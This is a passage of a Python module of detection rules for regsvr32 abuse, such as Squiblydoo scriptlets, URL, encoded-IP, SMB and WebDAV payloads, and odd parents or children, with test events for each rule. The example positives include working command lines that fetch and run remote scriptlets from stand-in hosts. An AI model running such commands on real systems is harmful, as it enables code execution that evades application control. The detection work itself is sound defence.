"""The rules: one registry of records, each with its id, ATT&CK ids, risk, sources and examples.

A rule's check takes a normalized Event and returns the reason (naming the evidence) or None.
Checks read parsed parts only: the Invocation's targets, flags and anomalies, never raw
substrings of the command line. Sources name the seed analytics and public rules a rule
reproduces (ids as in research/detections.md: Sigma, Splunk ESCU, Elastic, MITRE CAR) and
the logic ids L01-L34 of that survey.
"""
import re

from . import winpath
from .fields import (DNS, FILE, IMAGE_LOAD, NETWORK, PERSISTENCE, PROCESS, REGISTRY,
                     REMOTE_THREAD, REGSVR32)

# score -> severity: (lowest score, name), highest first
SEVERITIES = ((80, "critical"), (60, "high"), (40, "medium"), (20, "low"), (1, "informational"),
              (0, "none"))


def severity_for(score):
    for floor, name in SEVERITIES:
        if score >= floor:
            return name
    return "none"


class Rule(object):
    __slots__ = ("id", "title", "description", "techniques", "risk", "sources", "kinds",
                 "check", "positives", "negatives", "regsvr32_only", "per_invocation", "family")

    def __init__(self, id, title, description, techniques, risk, sources, kinds, check,
                 positives, negatives):
        self.id, self.title, self.description = id, title, description
        self.techniques, self.risk, self.sources = tuple(techniques), risk, tuple(sources)
        self.kinds, self.check = tuple(kinds), check
        self.positives, self.negatives = tuple(positives), tuple(negatives)
        # whether the event's own process must be regsvr32 (renamed copies included)
        self.regsvr32_only = getattr(check, "regsvr32_only", False)
        # whether the check reads only the parsed command line (answers can be remembered)
        self.per_invocation = getattr(check, "per_invocation", False)

    @property
    def severity(self):
        return severity_for(self.risk)

    def __repr__(self):
        return "Rule(%s)" % self.id


# ---------------------------------------------------------------------------------------
# Tables the checks read. Names are lower-case file names.

SCRIPT_PARENTS = frozenset(("mshta.exe", "wscript.exe", "cscript.exe", "powershell.exe",
                            "pwsh.exe", "powershell_ise.exe"))
OFFICE_PARENTS = frozenset((
    "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "onenote.exe", "onenotem.exe",
    "onenoteim.exe", "msaccess.exe", "mspub.exe", "visio.exe", "eqnedt32.exe", "wordpad.exe",
    "wordview.exe"))
# Servers and remote-execution hosts that have no business starting regsvr32
# (Splunk LOLBAS-spawn family, Sigma 8a582fe2 and the "suspicious child of X" rules).
SERVER_PARENTS = frozenset((
    "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe", "mmc.exe", "services.exe", "svchost.exe",
    "w3wp.exe", "httpd.exe", "nginx.exe", "tomcat.exe", "tomcat9.exe", "java.exe", "javaw.exe",
    "sqlservr.exe", "sqlagent.exe", "hh.exe", "msdt.exe", "sdiagnhost.exe", "fodhelper.exe",
    "3cxdesktopapp.exe", "pc-app.exe", "node.exe", "umworkerprocess.exe", "wlsvc.exe",
    "spoolsv.exe"))
SUSPICIOUS_CHILDREN = frozenset((
    "calc.exe", "cmd.exe", "powershell.exe", "pwsh.exe", "cscript.exe", "wscript.exe",
    "mshta.exe", "rundll32.exe", "net.exe", "net1.exe", "nltest.exe", "whoami.exe", "notepad.exe",
    "reg.exe", "schtasks.exe", "explorer.exe", "werfault.exe", "certutil.exe", "bitsadmin.exe",
    "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "wmic.exe", "curl.exe",
    "ipconfig.exe", "systeminfo.exe", "tasklist.exe", "nslookup.exe", "sc.exe", "at.exe"))
# Where Windows itself keeps regsvr32.exe (Sigma e4a6b256).
REGSVR32_HOMES = tuple(":\\" + home + "\\" for home in (
    "windows\\system32", "windows\\syswow64", "windows\\winsxs", "windows\\softwaredistribution",
    "windows\\systemtemp", "windows\\uus", "$windows.~bt", "$winreagent"))
TRUSTED_SIGNATURE_STATUS = frozenset(("errorchaining", "errorcode_endpoint", "errorexpired", "expired",
                                      "trusted", "valid"))
SCRIPT_RUNTIMES = frozenset(("scrobj.dll",))
CLR_MODULES = frozenset(("clr.dll", "mscoree.dll", "mscorlib.dll", "mscorlib.ni.dll",
                         "clrjit.dll"))
# Extensions an image load by regsvr32 may legitimately have (Elastic EP 76da5dca).
LOADABLE_EXTS = winpath.MODULE_EXTS | frozenset((
    "exe", "tlb", "scr", "mui", "ime", "tsp", "rbf", "whl", "drv", "acm", "tmp", "nls", "winmd",
    "sys"))
# System32 programs that load the scriptlet runtime for a living (Elastic 4ed678a9).
SCROBJ_HOSTS = frozenset((
    "cscript.exe", "wscript.exe", "msiexec.exe", "smartscreen.exe", "taskhostw.exe", "w3wp.exe",
    "mshta.exe", "mobsync.exe", "cmd.exe", "openwith.exe", "wmiadap.exe", "powershell.exe",
    REGSVR32))
PERSISTENCE_TOOLS = frozenset(("schtasks.exe", "reg.exe", "sc.exe"))
_AUTORUN_KEYS = ("\\currentversion\\run", "\\currentversion\\policies\\explorer\\run",
                 "\\winlogon\\", "\\currentversion\\runservices", "\\image file execution options\\",
                 "\\imagepath", "\\command\\(default)")
_MODIFIER_LETTERS = re.compile("[\u02b0-\u02ff\u1d2c-\u1dbf]")
REMCOS_CLSID = "{89565275-a714-4a43-912e-978b935edccc}"


# ---------------------------------------------------------------------------------------
# Small readers shared by the checks.

def _regsvr32_process(ev):
    return ev.is_regsvr32


def _by_regsvr32(ev):
    """Non-process events carry only the acting image: its name must be regsvr32.exe."""
    return ev.image_name == REGSVR32


def _role(target, inv):
    return "scriptlet (/i:)" if target is inv.install else "module"


def _where(target):
    return "%s: %s" % (target.location, target.where) if target.where else target.location


def _first_target(ev, aspect, value):
    inv = ev.invocation
    return inv, inv.first.get((aspect, value))


def _clip(text, n=160):
    text = " ".join(text.split())
    return text if len(text) <= n else text[:n - 3] + "..."


# ---------------------------------------------------------------------------------------
# Checks, one per rule, in registry order.

def squiblydoo(ev):
    inv = ev.invocation
    if inv.install_arg is None or ("module name", "scrobj.dll") not in inv.first:
        return None
    if inv.install is not None and inv.install.kind == "url":
        return "scriptlet fetched from %s via /i: and scrobj.dll" % _clip(inv.install_arg)
    return "scriptlet %s run via /i: and scrobj.dll" % (_clip(inv.install_arg) or "''")


def remote_url(ev):
    inv, t = _first_target(ev, "kind", "url")
    if t is None:
        return None
    return "%s %s fetched from the internet (%s, host %s)" % (
        _role(t, inv), _clip(t.raw), t.where, t.host or "?")


def ip_host(ev):
    inv, t = _first_target(ev, "ip", True)
    if t is None:
        return None
    if t.ip_encoding in ("dotted", "ipv6"):
        how = "IP address %s" % t.ip
    else:
        how = "%s-encoded IP address %s (= %s)" % (t.ip_encoding, t.host, t.ip)
    return "%s %s is served from the raw %s" % (_role(t, inv), _clip(t.raw), how)


def renamed_scrobj(ev):
    inv = ev.invocation
    if inv.install is None or ("module name", "scrobj.dll") in inv.first:
        return None
    module = inv.modules[0].path if inv.modules else "no module at all"
    return "/i: hands the %s %s to %s: a renamed scrobj.dll runs scriptlets this way" % (
        "URL" if inv.install.kind == "url" else "path", _clip(inv.install_arg), _clip(module))


def install_without_n(ev):
    inv = ev.invocation
    if "i" not in inv.flags or "n" in inv.flags:
        return None
    second = "DllUnregisterServer" if "u" in inv.flags else "DllRegisterServer"
    module = inv.modules[0].path if inv.modules else "the module"
    return "/i without /n: %s gets DllInstall and then %s" % (_clip(module), second)


def silent_register_outside(ev):
    inv = ev.invocation
    if not inv.flags & {"s", "e"} or inv.flags & {"i", "u"}:
        return None
    for m in inv.modules:
        if m.location not in winpath.TRUSTED_LOCATIONS and m.location != winpath.UNKNOWN:
            return "silent DllRegisterServer call on %s (%s)" % (_clip(m.path), _where(m))
    return None


def user_writable(ev):
    inv, t = _first_target(ev, "location", winpath.USER_WRITABLE)
    if t is None:
        return None
    return "%s %s is in a user-writable folder (%s)" % (_role(t, inv), _clip(t.path), t.where)


def writable_non_module(ev):
    inv = ev.invocation
    if ("module location", winpath.USER_WRITABLE) not in inv.first:
        return None
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE and m.ext_class != winpath.MODULE:
            ext = ("." + m.ext) if m.ext else "no"
            return "module %s in %s has %s extension, not .dll/.ocx/.ax/.cpl" % (
                _clip(m.path), m.where, ext)
    return None


def unusual_folder(ev):
    m = ev.invocation.first.get(("module location", winpath.OTHER))
    if m is None:
        return None
    return "module %s is in %s, outside Windows, Program Files and user folders" % (
        _clip(m.path), m.where)


def suspicious_folder(ev):
    inv, t = _first_target(ev, "location", winpath.SUSPICIOUS)
    if t is None:
        return None
    return "%s %s is in %s, a folder malware favours" % (_role(t, inv), _clip(t.path), t.where)


def disguised_extension(ev):
    m = ev.invocation.first.get(("module ext", winpath.DISGUISED))
    if m is None:
        return None
    return "module %s poses as a .%s file" % (_clip(m.path), m.ext)


def unusual_extension(ev):
    m = ev.invocation.first.get(("module ext", winpath.OTHER_EXT))
    if m is None:
        return None
    return "module %s has the unusual extension .%s" % (_clip(m.path), m.ext)


def unc_share(ev):
    inv, t = _first_target(ev, "kind", "unc")
    if t is None:
        return None
    return "%s %s is loaded from the SMB share of %s" % (_role(t, inv), _clip(t.path), t.host)


def webdav(ev):
    inv, t = _first_target(ev, "kind", "webdav")
    if t is None:
        return None
    return "%s %s is loaded over WebDAV from %s" % (_role(t, inv), _clip(t.path), t.host)


def _parent_in(table, what):
    def check(ev):
        if ev.parent_name in table:
            return "started by %s %s" % (what, ev.parent_image or ev.parent_name)
        return None
    return check


def suspicious_child(ev):
    if not ev.parent_is_regsvr32 or ev.image_name not in SUSPICIOUS_CHILDREN:
        return None
    return "regsvr32 started %s: %s" % (ev.image_name, _clip(ev.command_line or ev.image))


def any_child(ev):
    if not ev.parent_is_regsvr32 or ev.image_name in ("", REGSVR32):
        return None
    return "regsvr32 started a child process %s" % (ev.image or ev.image_name)


def renamed_binary(ev):
    if not ev.is_regsvr32 or not ev.image_name or ev.image_name == REGSVR32:
        return None
    if ev.original_file_name.lower() == REGSVR32:
        evidence = "OriginalFileName %s" % ev.original_file_name
    else:
        evidence = "file description '%s'" % ev.description
    return "regsvr32 runs under the name %s (%s)" % (ev.image or ev.image_name, evidence)


def unexpected_home(ev):
    image = ev.image.lower().replace("/", "\\")
    if ev.image_name != REGSVR32 or "\\" not in image or image.startswith(REGSVR32_HOMES, 1):
        return None
    return "regsvr32.exe runs from %s, not from System32 or SysWOW64" % ev.image


def _connection(public):
    def check(ev):
        if not _by_regsvr32(ev) or ev.initiated.lower() == "false":
            return None
        ip, _ = winpath.parse_ip(ev.dest_ip)
        if ip is None or winpath.is_public(ip) != public:
            return None
        where = "public" if public else "non-public (private, loopback or reserved)"
        return "regsvr32 connected to %s address %s%s" % (
            where, ip, (":" + ev.dest_port) if ev.dest_port else "")
    return check


def dns_query(ev):
    if not _by_regsvr32(ev) or not ev.query_name:
        return None
    return "regsvr32 looked up %s" % ev.query_name


def no_arguments(ev):
    inv = ev.invocation
    if not inv.program or inv.args:
        return None
    return "regsvr32 ran with no arguments (%s): a sacrificial process for injected code" % (
        _clip(ev.command_line))


def unsigned_outside(ev):
    if not _by_regsvr32(ev) or ev.signed.lower() != "false":
        return None
    location, where = winpath.location_of(ev.image_loaded)
    if location in winpath.TRUSTED_LOCATIONS:
        return None
    return "regsvr32 loaded the unsigned module %s (%s)" % (ev.image_loaded, where or location)


def untrusted_signature(ev):
    status = ev.signature_status.lower()
    if not _by_regsvr32(ev) or ev.signed.lower() == "true" or not status \
            or status in TRUSTED_SIGNATURE_STATUS:
        return None
    return "regsvr32 loaded %s whose signature status is %s" % (
        ev.image_loaded, ev.signature_status)


def script_runtime_load(ev):
    name = winpath.basename(ev.image_loaded).lower()
    if not _by_regsvr32(ev) or name not in SCRIPT_RUNTIMES:
        return None
    return "regsvr32 loaded the scriptlet runtime %s" % ev.image_loaded


def clr_in_regsvr32(ev):
    if not _by_regsvr32(ev):
        return None
    if ev.kind == IMAGE_LOAD and winpath.basename(ev.image_loaded).lower() in CLR_MODULES:
        return "regsvr32 loaded the .NET runtime %s (DotNetToJScript)" % ev.image_loaded
    if ev.kind == FILE and ev.target_filename.lower().endswith("\\usagelogs\\regsvr32.exe.log"):
        return "regsvr32 wrote the .NET usage log %s (DotNetToJScript)" % ev.target_filename
    return None


def odd_module_load(ev):
    if not _by_regsvr32(ev) or not ev.image_loaded:
        return None
    t = winpath.classify_absolute(ev.image_loaded)
    if t.location in (winpath.USER_WRITABLE, winpath.SUSPICIOUS, winpath.NETWORK):
        return "regsvr32 loaded %s from %s" % (ev.image_loaded, _where(t))
    if t.ext and t.ext not in LOADABLE_EXTS:
        return "regsvr32 loaded %s, a module with the extension .%s" % (ev.image_loaded, t.ext)
    return None


def scrobj_elsewhere(ev):
    if winpath.basename(ev.image_loaded).lower() != "scrobj.dll" or ev.image_name in SCROBJ_HOSTS:
        return None
    comps = ev.image.lower().split("\\")
    if comps[1:3] not in (["windows", "system32"], ["windows", "syswow64"]):
        return None
    return "%s loaded the scriptlet runtime scrobj.dll" % ev.image


def scrobj_com(ev):
    key = ev.registry_path.lower()
    data = ev.registry_data.lower()
    if "\\scriptleturl" in key:
        return "COM class points at a scriptlet URL: %s = %s" % (key, _clip(ev.registry_data))
    if "\\inprocserver32" not in key:
        return None
    if winpath.basename(data.strip('"')) == "scrobj.dll":
        remcos = " (the CLSID Remcos uses)" if REMCOS_CLSID in key else ""
        return "COM class %s is served by scrobj.dll%s" % (_clip(ev.registry_path), remcos)
    if REMCOS_CLSID in key:
        return "COM class %s, the one Remcos hijacks, now points at %s" % (
            REMCOS_CLSID, _clip(ev.registry_data))
    return None


def icon_overlay(ev):
    if not ev.is_regsvr32 and not _by_regsvr32(ev):
        return None
    if "\\shelliconoverlayidentifiers\\" not in ev.registry_path.lower():
        return None
    return "regsvr32 registered an icon-overlay handler %s" % _clip(ev.registry_path)


def remote_thread(ev):
    if winpath.basename(ev.source_image).lower() != REGSVR32:
        return None
    return "regsvr32 created a thread in %s" % (ev.target_image or "another process")


def persistence(ev):
    if ev.kind == PERSISTENCE:
        text, how = ev.task_content or ev.service_path, (
            "scheduled task" if ev.task_content else "service")
    elif ev.kind == REGISTRY:
        key = ev.registry_path.lower()
        if not any(k in key for k in _AUTORUN_KEYS):
            return None
        text, how = ev.registry_data, "autorun value %s" % _clip(ev.registry_path, 100)
    elif ev.image_name in PERSISTENCE_TOOLS:
        text, how = ev.command_line, ev.image_name
    else:
        return None
    at = text.lower().find("regsvr32")
    if at < 0:
        return None
    return "%s launches regsvr32: %s" % (how, _clip(text[at:], 200))


def path_syntax(ev):
    inv = ev.invocation
    seen = [a for a in inv.anomalies if "switch prefix" not in a and "entry point" not in a]
    for t in inv.targets:
        seen.extend(t.anomalies)
    if not seen:
        return None
    return "path or switch syntax that string rules miss: %s" % "; ".join(seen[:4])


def unicode_tricks(ev):
    if ev.command_line.isascii() if hasattr(str, "isascii") else False:
        return None
    inv = ev.invocation
    dashes = [a for a in inv.anomalies if "switch prefix" in a]
    if dashes:
        return "Unicode look-alike switch: %s" % dashes[0]
    m = _MODIFIER_LETTERS.search(ev.command_line)
    if m:
        return "Unicode modifier letter U+%04X in the command line" % ord(m.group(0))
    return None


def other_drive(ev):
    m = ev.invocation.first.get(("module location", winpath.OTHER_DRIVE))
    if m is None:
        return None
    return "module %s is on %s (removable or mounted media?)" % (_clip(m.path), m.where)


def _qakbot(inv):
    return "s" in inv.flags and inv.args and inv.args[-1].lower() == "calc"


def _bluemushroom(inv):
    return inv.entry_points and any(m.where.startswith("AppData\\Local") for m in inv.modules)


def _evilnum(inv):
    return inv.flags >= {"s", "i"} and any(
        m.where == "AppData\\Roaming" and m.ext == "ocx" for m in inv.modules)


CAMPAIGNS = (("Qakbot (-s ... calc)", _qakbot),
             ("BlueMushroom (,DllEntry from AppData\\Local)", _bluemushroom),
             ("EvilNum (/s /i .ocx from AppData\\Roaming)", _evilnum))


def campaign(ev):
    inv = ev.invocation
    for name, test in CAMPAIGNS:
        if test(inv):
            return "matches the %s pattern" % name
    return None


def _regsvr32_only(check):
    """Mark a check that applies only to regsvr32's own process (see Rule.regsvr32_only)."""
    check.regsvr32_only = True
    return check


def _of_command_line(check):
    """Mark a regsvr32 check that reads nothing but the parsed command line (the Invocation,
    which is the same for the same line, program name and working directory), so its answer
    can be remembered per Invocation (see Rule.per_invocation)."""
    check.per_invocation = True
    return _regsvr32_only(check)


# ---------------------------------------------------------------------------------------
# Example events for the rules' own tests (see tests/test_rules.py).

SYS32 = "C:\\Windows\\System32\\regsvr32.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"


def proc(cmd, image=SYS32, parent=CMD, **more):
    """A Sysmon 1 process creation; extra keyword arguments are source fields."""
    record = {"EventCode": "1", "Image": image, "CommandLine": cmd, "ParentImage": parent,
              "Computer": "WS01", "User": "CORP\\alice"}
    record.update(more)
    return record


def load(dll, image=SYS32, signed="true", status="Valid", signature="Microsoft Windows"):
    return {"EventCode": "7", "Image": image, "ImageLoaded": dll, "Signed": signed,
            "SignatureStatus": status, "Signature": signature, "Computer": "WS01"}


def net(ip, port="443", image=SYS32, initiated="true"):
    return {"EventCode": "3", "Image": image, "DestinationIp": ip, "DestinationPort": port,
            "Initiated": initiated, "Computer": "WS01"}


def reg(key, data, image=SYS32, code="13"):
    return {"EventCode": code, "Image": image, "TargetObject": key, "Details": data,
            "Computer": "WS01"}


URL_SCT = "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll"
LOCAL_DLL = SYS32 + " /s C:\\Windows\\System32\\msxml6.dll"
PF_DLL = "regsvr32 /s \"C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll\""

# ---------------------------------------------------------------------------------------

T = "T1218.010"
RULES = (
    Rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)",
         "regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or remote: "
         "the classic application-control bypass. Requires /i: so that re-registering "
         "scrobj.dll itself (a Windows Script Host repair step) stays quiet.",
         (T,), 85, ("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c",
                    "Fibratus"), (PROCESS,), _of_command_line(squiblydoo),
         (proc(URL_SCT), proc("regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll"),
          {"EventCode": "4688", "NewProcessName": SYS32, "ParentProcessName": CMD,
           "CommandLine": "regsvr32 /u /s /i:\"http://198.51.100.7/x.sct\" SCROBJ.DLL"}),
         (proc("regsvr32 /s scrobj.dll"), proc(LOCAL_DLL))),
    Rule("R32-002", "Module or scriptlet fetched from a URL",
         "A /i: argument or module given as an http, https, ftp or file URL: regsvr32 "
         "downloads and runs it.", (T, "T1105"), 90,
         ("L03", "QOMPLX", "Sigma 867356ee", "Sigma 8e2b24c9"), (PROCESS,),
         _of_command_line(remote_url),
         (proc(URL_SCT), proc("regsvr32 -s -u \"-i:https://cdn.example.net/a.sct\" x.dll"),
          proc("regsvr32 /u /i:file://files.example.org/share/a.sct scrobj.dll")),
         (proc(LOCAL_DLL), proc("regsvr32 /s /n /i:user C:\\x\\a.dll"))),
    Rule("R32-003", "Payload served from a raw or encoded IP address",
         "The URL or share host is an IP literal, in any notation inet_aton accepts: dotted, "
         "hex, octal, one integer, short forms or IPv6.", (T, "T1105"), 90,
         ("L04", "Sigma 2dd2c217"), (PROCESS,), _of_command_line(ip_host),
         (proc(URL_SCT), proc("regsvr32 /s /u /i:http://0x0a010203/a.sct scrobj.dll"),
          proc("regsvr32 /s /u /i:http://[2001:db8::7]/a.sct scrobj.dll"),
          proc("regsvr32 /s \\\\192.0.2.44\\share\\x.dll")),
         (proc("regsvr32 /s /u /i:http://7zip.example.com/a.sct scrobj.dll"), proc(LOCAL_DLL))),
    Rule("R32-004", "Scriptlet-style /i: path or URL given to a module other than scrobj.dll",
         "An /i: argument that is a path or URL, handed to some other module: a renamed or "
         "copied scrobj.dll runs scriptlets exactly like the original.", (T,), 70,
         ("L02", "Elastic EP 0524c24c", "Fibratus"), (PROCESS,), _of_command_line(renamed_scrobj),
         (proc("regsvr32 /s /u /i:http://example.com/a.sct C:\\Users\\Public\\x.dll"),
          proc("regsvr32 /u /i:C:\\ProgramData\\a.sct .\\jabber.dll", CurrentDirectory="C:\\ProgramData\\")),
         (proc(URL_SCT), proc("regsvr32 /s /n /i:user \"C:\\Program Files\\A\\b.dll\""))),
    Rule("R32-005", "/i without /n: DllInstall and DllRegisterServer both run",
         "With /i and no /n, regsvr32 calls the module's DllInstall and then its "
         "DllRegisterServer (DllUnregisterServer with /u): two entry points of code.", (T,), 30,
         ("L05", "L07", "Sigma b236190c", "Splunk f421c250", "Fibratus"), (PROCESS,),
         _of_command_line(install_without_n),
         (proc("regsvr32 /s /i \"C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll\""),
          proc("regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll")),
         (proc(URL_SCT), proc(LOCAL_DLL))),
    Rule("R32-006", "Silent DllRegisterServer call on a module outside the system and Program Files",
         "/s or /e, no /i and no /u, and a module (resolved against the working directory) "
         "that is not under Windows or Program Files. Reproduces Sigma ce2c44b5 on the parsed "
         "module, so the image path in the command line no longer hides it.", (T,), 40,
         ("L06", "L08", "Sigma ce2c44b5", "Splunk c9ef7dc4"), (PROCESS,),
         _of_command_line(silent_register_outside),
         (proc(SYS32 + " /s C:\\Users\\alice\\Desktop\\x.dll"),
          proc("regsvr32.exe /s payload.dll", CurrentDirectory="C:\\Users\\alice\\Downloads\\"),
          proc(" /s C:\\AtomicRedTeam\\atomics\\T1117\\bin\\AllTheThingsx86.dll")),
         (proc(LOCAL_DLL), proc(PF_DLL), proc("regsvr32  DevExpress.Data.v14.1.dll"),
          proc("regsvr32 /s /u C:\\Users\\Public\\x.dll"))),
    Rule("R32-007", "Module or scriptlet in a user-writable folder",
         "A module or /i: scriptlet under AppData, Temp, Users\\Public, ProgramData, Downloads, "
         "Desktop, Documents, Pictures, Music, Windows\\Temp or Windows\\Tasks, after resolving "
         "8.3 names, forward slashes, '..' and %VARIABLES%.", (T,), 55,
         ("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41", "Splunk 62732736"),
         (PROCESS,), _of_command_line(user_writable),
         (proc("regsvr32.exe /s C:\\Users\\Public\\payload.dll"),
          proc("regsvr32 /s C:/Users/Public/x.dat"),
          proc("regsvr32 /s C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll"),
          proc("regsvr32 /s C:\\PROGRA~3\\x.dat")),
         (proc(LOCAL_DLL), proc(PF_DLL))),
    Rule("R32-008", "Module with a non-module extension in a user-writable folder",
         "A module in a user-writable folder whose extension is not .dll, .ocx, .ax or .cpl: "
         "the Splunk ESCU seed analytic, fixed to read the module's own extension rather than "
         "any '.dll' anywhere in the line (which 'x.dll.jpg' or a decoy argument defeat).",
         (T,), 70, ("ESCU 62732736", "L09", "L11", "Sigma 4fcac6eb", "Sigma e6eb5a96"),
         (PROCESS,), _of_command_line(writable_non_module),
         (proc("regsvr32 /s C:\\ProgramData\\x.tmp"),
          proc("regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll.jpg /i:a.dll"),
          proc("regsvr32 -s C:\\Windows\\Temp\\payload")),
         (proc("regsvr32 /s C:\\ProgramData\\x.dll"), proc(PF_DLL))),
    Rule("R32-009", "Module or scriptlet in a folder malware favours",
         "PerfLogs, C:\\Temp, Windows\\Tracing, Registration\\CRMLog, System32\\com\\dmp, "
         "FxsTmp, spool folders, MachineKeys, Tasks, the Recycle Bin and other Windows "
         "subfolders that legitimate software does not register modules from.", (T,), 75,
         ("L10", "Sigma 327ff235", "Elastic cff92c41"), (PROCESS,),
         _of_command_line(suspicious_folder),
         (proc("regsvr32 /s C:\\PerfLogs\\a.dll"),
          proc("regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll")),
         (proc(LOCAL_DLL), proc(PF_DLL))),
    Rule("R32-010", "Module disguised as an image, document, log or temp file",
         "The module's own extension is one of an image, data, document, log or temp file "
         "(.jpg, .png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing blanks or not.",
         (T, "T1036.008"), 75, ("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
         (PROCESS,), _of_command_line(disguised_extension),
         (proc(SYS32 + " /s C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg"),
          proc("regsvr32.exe -s meow.txt"),
          proc("regsvr32 /s \"C:\\Users\\alice\\AppData\\Local\\Temp\\shell32.jpg\" ")),
         (proc(LOCAL_DLL), proc("regsvr32 /s C:\\x\\img.jpg.dll"))),
    Rule("R32-011", "Module with an unusual extension",
         "The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a "
         "disguise (R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, .xyz ...",
         (T,), 40, ("L12", "Sigma 50919691"), (PROCESS,), _of_command_line(unusual_extension),
         (proc("regsvr32 /s C:\\Tools\\stage2.exe"), proc("regsvr32 /s x.foo")),
         (proc(LOCAL_DLL), proc("regsvr32 /s C:\\Tools\\stage2"))),
    Rule("R32-012", "Module or scriptlet on a remote SMB share",
         "A UNC path (\\\\host\\share\\...), also after /i:, quoted, or behind \\\\?\\UNC\\.",
         (T,), 70, ("L13", "Sigma 88a87a10"), (PROCESS,), _of_command_line(unc_share),
         (proc("regsvr32 /s \\\\fileserver\\pub\\x.dll"),
          proc("regsvr32 /s /n /u /i:\\\\10.1.2.3\\share\\a.sct scrobj.dll"),
          proc("regsvr32 /s \"\\\\?\\UNC\\host\\share\\x.dll\"")),
         (proc(LOCAL_DLL), proc("regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll"))),
    Rule("R32-013", "Module or scriptlet fetched over WebDAV",
         "A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot folder.",
         (T, "T1105"), 80, ("L13", "Elastic EP 4bdd5646", "Elastic EP 5db08297"), (PROCESS,),
         _of_command_line(webdav),
         (proc("regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll"),
          proc("regsvr32 /s \\\\files.example.com@80\\share\\x.dll")),
         (proc(LOCAL_DLL), proc("regsvr32 /s \\\\fileserver\\pub\\x.dll"))),
    Rule("R32-014", "regsvr32 started by a script host",
         "Parent is mshta, wscript, cscript or PowerShell. cmd.exe alone is left out: "
         "installer batch files start regsvr32 all day.", (T, "T1059"), 55,
         ("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da", "Sentinel bef2bd1b"),
         (PROCESS,), _regsvr32_only(_parent_in(SCRIPT_PARENTS, "script host")),
         (proc(LOCAL_DLL, parent="C:\\Windows\\System32\\mshta.exe"),
          proc("regsvr32 /s x.dll", parent="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")),
         (proc(LOCAL_DLL), proc(LOCAL_DLL, parent="C:\\Windows\\explorer.exe"))),
    Rule("R32-015", "regsvr32 started by an Office application",
         "Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, Visio or the "
         "Equation Editor: a macro or exploit at work.", (T, "T1204.002"), 75,
         ("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
         (PROCESS,), _regsvr32_only(_parent_in(OFFICE_PARENTS, "Office application")),
         (proc("regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx",
               parent="C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"),),
         (proc(LOCAL_DLL),)),
    Rule("R32-016", "regsvr32 started by a server or remote-execution host",
         "Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, database or "
         "Java server, hh, msdt or fodhelper: remote execution, exploitation or a persisted "
         "launch rather than an installer.", (T, "T1047"), 60,
         ("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2",
          "Sigma d52d2e87"), (PROCESS,),
         _regsvr32_only(_parent_in(SERVER_PARENTS, "server process")),
         (proc("regsvr32.exe /i C:\\x.dll", parent="C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"),
          proc("regsvr32 /s C:\\inetpub\\a.dll", parent="c:\\windows\\system32\\inetsrv\\w3wp.exe")),
         (proc(LOCAL_DLL), proc(LOCAL_DLL, parent="C:\\Windows\\System32\\msiexec.exe"))),
    Rule("R32-017", "regsvr32 started a shell, script host or reconnaissance tool",
         "A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, net, "
         "nltest, whoami, reg, schtasks or explorer: the registered code is running commands.",
         (T, "T1059"), 80, ("L17", "Veramine", "Sigma 6f0947a4", "Splunk 61490da9"), (PROCESS,),
         suspicious_child,
         (proc("\"C:\\Windows\\System32\\calc.exe\" ", image="C:\\Windows\\System32\\calc.exe",
               parent=SYS32),
          proc("cmd.exe /c whoami", image=CMD, parent="C:\\Windows\\SysWOW64\\regsvr32.exe")),
         (proc("calc.exe", image="C:\\Windows\\System32\\calc.exe"),
          proc(LOCAL_DLL, parent=SYS32))),
    Rule("R32-018", "regsvr32 started a child process",
         "Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit re-launch): "
         "registration code rarely starts programs. The default allowlist keeps WerFault crash "
         "reporting (-u -p) and wevtutil, as CAR does.", (T,), 50,
         ("CAR-2019-04-002", "Veramine", "L17"), (PROCESS,), any_child,
         (proc("C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe", image="C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
               parent=SYS32),),
         (proc(" /s C:\\x\\a.dll", image="C:\\Windows\\SysWOW64\\regsvr32.exe", parent=SYS32),
          proc("calc.exe", image="C:\\Windows\\System32\\calc.exe"))),
    Rule("R32-019", "Renamed regsvr32",
         "The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
         "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName) but it runs "
         "under another name.", (T, "T1036.003"), 80,
